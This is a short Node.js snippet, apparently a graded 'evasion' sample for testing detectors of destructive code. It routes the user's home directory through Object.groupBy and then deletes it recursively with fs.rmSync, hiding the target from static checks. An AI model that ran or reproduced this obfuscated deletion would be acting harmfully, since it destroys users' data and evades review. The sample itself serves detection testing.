// evasion: Object.groupBy over plain strings, the bucket read by subscript and deleted
// grade: very hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');

const roots = [os.homedir(), '/var/tmp/x'];
const buckets = Object.groupBy(roots, (r) => (r.startsWith('/var') ? 'tmp' : 'home'));
buckets['home'].forEach((r) => fs.rmSync(r, { recursive: true, force: true }));
